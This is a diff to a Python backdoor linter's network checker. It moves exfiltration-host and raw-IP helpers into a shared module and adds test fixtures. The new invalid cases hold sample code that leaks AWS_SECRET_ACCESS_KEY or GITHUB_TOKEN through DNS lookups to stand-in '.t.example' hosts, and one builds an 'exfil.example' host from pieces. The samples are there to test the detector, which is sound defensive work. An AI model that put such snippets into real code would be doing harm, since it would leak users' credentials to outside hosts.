@@ -6,17 +6,13 @@ destinations, 404 DNS exfiltration, 405 network shell commands run from code, 40
 the configured `allowed-hosts`. All of them use the shared dataflow of py_dataflow."""
 from __future__ import annotations
 
-import ipaddress
 import re
 import urllib.parse
-from functools import lru_cache
-from importlib import resources
 
 import libcst as cst
 
 from backdoor_lint.checkers.base import Invalid, PythonChecker, Valid
 from backdoor_lint.checkers.py_dataflow import (
-    DECODERS,
     ENVIRONMENT,
     EXFIL_KINDS,
     HOLE,
@@ -30,6 +26,7 @@ from backdoor_lint.checkers.py_dataflow import (
     shell_facts,
 )
 from backdoor_lint.checkers.tree import visit_tree
+from backdoor_lint.checkers.vocabulary import DECODERS, exfil_service, raw_ip
 
 # Calls that run a function they are handed (now, in the background, or at exit).
 RUNNERS = {"threading.Thread", "threading.Timer", "atexit.register", "multiprocessing.Process", "asyncio.run",
@@ -44,47 +41,6 @@ HIDING_CALLS = DECODERS | {"chr", "reversed", "codecs.decode", "codecs.encode"}
 # The sinks' modules are read from the imports (base.PythonChecker.TRIGGER_IMPORTS).
 TRIGGER_IMPORTS = frozenset(SINKS) | frozenset(SHELL_FUNCTIONS)
 TRIGGER = re.compile(PROCESS_FUNCTION_NAMED.pattern + rb"|__import__|import_module")
-
-
-@lru_cache(maxsize=1)
-def exfil_hosts() -> tuple[tuple[str, str], ...]:
-    """(host suffix or host/path prefix, category) from data/exfil_hosts.txt."""
-    text = resources.files("backdoor_lint.checkers").joinpath("data/exfil_hosts.txt").read_text("utf-8")
-    entries = []
-    category = "known exfiltration service"
-    for line in text.splitlines():
-        line = line.strip()
-        if line.startswith("# category:"):
-            category = line.split(":", 1)[1].strip()
-        elif line and not line.startswith("#"):
-            entries.append((line.lower(), category))
-    return tuple(entries)
-
-
-def exfil_service(host: str, path: str = "") -> str | None:
-    host = host.lower().rstrip(".")
-    target = f"{host}{path}"
-    for entry, category in exfil_hosts():
-        if "/" in entry:
-            if target == entry or target.startswith(entry + "/") or target.startswith(entry):
-                return f"{category} ({entry})"
-        elif host == entry or host.endswith("." + entry):
-            return f"{category} ({entry})"
-    return None
-
-
-def raw_ip(host: str) -> str | None:
-    """A public (or documentation) IP literal used as a host; private/loopback ranges are fine."""
-    try:
-        address = ipaddress.ip_address(host.strip("[]"))
-    except ValueError:
-        return None
-    if address.is_loopback or address.is_unspecified or address.is_link_local or address.is_multicast:
-        return None
-    private = ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "fc00::/7")
-    if any(address in ipaddress.ip_network(n) for n in private if ipaddress.ip_network(n).version == address.version):
-        return None
-    return str(address)
 
 
 def split_url(value: object, kind: str) -> tuple[str, str] | None:
@@ -527,40 +483,51 @@ class NetworkChecker(PythonChecker):
         # network-sounding imports that reach no client, and a call that is only in a comment
         Valid('import os\nfrom django.http import HttpResponse\nfrom urllib.parse import urlsplit\n'
               '# requests.post("https://c.example/x", data=dict(os.environ))\n'
-              'def view(request):\n    return HttpResponse(urlsplit(request.path).path)\n'),
+              'def view(request):\n    return HttpResponse(urlsplit(request.path).path)\n', "BDL402"),
         # an HTTP client making requests at run time, to a configured URL
-        Valid('import requests\ndef fetch(url):\n    return requests.get(url, timeout=5).json()\n'),
+        Valid('import requests\ndef fetch(url):\n    return requests.get(url, timeout=5).json()\n', "BDL401"),
         Valid('import requests\nAPI = "https://api.example.com"\ndef latest():\n'
-              '    return requests.get(API + "/v1/latest", timeout=5)\n'),
+              '    return requests.get(API + "/v1/latest", timeout=5)\n', "BDL401"),
         # network only under the main guard
-        Valid('import requests\nif __name__ == "__main__":\n    requests.get("https://api.example.com/ping")\n'),
+        Valid('import requests\nif __name__ == "__main__":\n    requests.get("https://api.example.com/ping")\n',
+              "BDL401"),
         # an API client sending its key in a header to its own configured base URL
         Valid('import os, requests\nclass Client:\n    def __init__(self):\n'
               '        self.base = os.environ["CRM_BASE_URL"]\n        self.key = os.environ["CRM_API_KEY"]\n'
               '    def get(self, path):\n        return requests.get(self.base + path, '
-              'headers={"Authorization": f"Bearer {self.key}"})\n'),
+              'headers={"Authorization": f"Bearer {self.key}"})\n', "BDL402"),
         Valid('import os, requests\ndef login():\n    return requests.post(os.environ["VAULT_ADDR"] + "/v1/auth", '
-              'json={"token": os.environ["VAULT_TOKEN"]})\n'),
+              'json={"token": os.environ["VAULT_TOKEN"]})\n', "BDL402"),
         # base64 used only to encode the body, not the host
         Valid('import base64, requests\ndef upload(url, data):\n'
-              '    return requests.post(url, json={"content": base64.b64encode(data).decode()})\n'),
+              '    return requests.post(url, json={"content": base64.b64encode(data).decode()})\n', "BDL402"),
         # a non-secret environment variable in a request
         Valid('import os, requests\ndef ping():\n    requests.post("https://api.example.com/ping", '
-              'json={"region": os.environ.get("AWS_REGION")})\n'),
+              'json={"region": os.environ.get("AWS_REGION")})\n', "BDL402"),
         # resolving a configured host name; subprocess with an argument list and no network tool
-        Valid('import socket\ndef can_resolve(host="example.org"):\n    return socket.getaddrinfo(host, 443)\n'),
-        Valid('import subprocess\ndef clone(name):\n    subprocess.run(["git", "clone", f"git@git.example.com:{name}"])\n'),
-        Valid('import subprocess\ndef fetch(url, out):\n    subprocess.run(["curl", "-fsSL", "-o", out, url], check=True)\n'),
+        Valid('import socket\ndef can_resolve(host="example.org"):\n    return socket.getaddrinfo(host, 443)\n',
+              "BDL404"),
+        Valid('import subprocess\ndef clone(name):\n    subprocess.run(["git", "clone", f"git@git.example.com:{name}"])\n',
+              "BDL405"),
+        Valid('import subprocess\ndef fetch(url, out):\n    subprocess.run(["curl", "-fsSL", "-o", out, url], check=True)\n',
+              "BDL405"),
         # a library's own helper in its __init__.py forwards its caller's URL
         Valid('from urllib3 import PoolManager\n_POOL = PoolManager()\n'
-              'def request(method, url, **kw):\n    return _POOL.request(method, url, **kw)\n', path="pkg/__init__.py"),
+              'def request(method, url, **kw):\n    return _POOL.request(method, url, **kw)\n',
+              "BDL401", path="pkg/__init__.py"),
         # a local object with a post method; private IP address
         Valid('class Board:\n    def post(self, url, json=None): ...\nrequests = Board()\n'
-              'requests.post("https://x.example", json=dict(__import__("os").environ))\n'),
-        Valid('import requests\ndef status():\n    return requests.get("http://10.0.0.5:8080/status")\n'),
+              'requests.post("https://x.example", json=dict(__import__("os").environ))\n', "BDL402"),
+        Valid('import requests\ndef status():\n    return requests.get("http://10.0.0.5:8080/status")\n', "BDL403"),
         Valid('import socket\nhostname, _, ips = socket.gethostbyname_ex(socket.gethostname())\n'
-              'INTERNAL_IPS = [ip[:-1] + "1" for ip in ips]\n'),
-        Valid('import requests\nHOST = "api." + "example.com"\ndef f():\n    return requests.get(f"https://{HOST}/v1")\n'),
+              'INTERNAL_IPS = [ip[:-1] + "1" for ip in ips]\n', "BDL404"),
+        Valid('import requests\nHOST = "api." + "example.com"\ndef f():\n    return requests.get(f"https://{HOST}/v1")\n',
+              "BDL403"),
+        Valid('import requests\ndef users():\n    return requests.get("https://api.mycorp.example/v1/users", timeout=5)\n',
+              "BDL406", config=(("allowed-hosts", ["api.mycorp.example"]),)),
+        Valid('import requests\ndef users(region):\n'
+              '    return requests.get(f"https://{region}.mycorp.example/v1/users", timeout=5)\n', "BDL406",
+              config=(("allowed-hosts", ["*.mycorp.example"]),)),
     ]
     INVALID = [
         # BDL401: module level, class body, decorator, default argument, through a local function
@@ -676,6 +643,15 @@ class NetworkChecker(PythonChecker):
                 '    subprocess.Popen([DEST, "--daemon"])\n', "BDL405", 6),
         # BDL406: allowed-hosts configured
         Invalid('import requests\ndef f():\n    requests.get("https://unknown.example/api")\n', "BDL406", 3,
+                config=(("allowed-hosts", ["api.mycorp.example"]),)),
+        # the secret encoded into a DNS label, or formatted into the host first
+        Invalid('import base64, os, socket\ndef f():\n'
+                '    label = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode().strip("=").lower()\n'
+                '    socket.getaddrinfo(label[:60] + ".t.example", 53)\n', "BDL404", 4),
+        Invalid('import os, socket\ndef f():\n    host = "%s.t.example" % os.environ["GITHUB_TOKEN"]\n'
+                '    socket.gethostbyname(host)\n', "BDL404", 4),
+        # a host outside allowed-hosts, assembled so that no literal names it
+        Invalid('import requests\ndef f():\n    return requests.get("https://" + "exfil" + ".example/x")\n', "BDL406", 3,
                 config=(("allowed-hosts", ["api.mycorp.example"]),)),
     ]
 
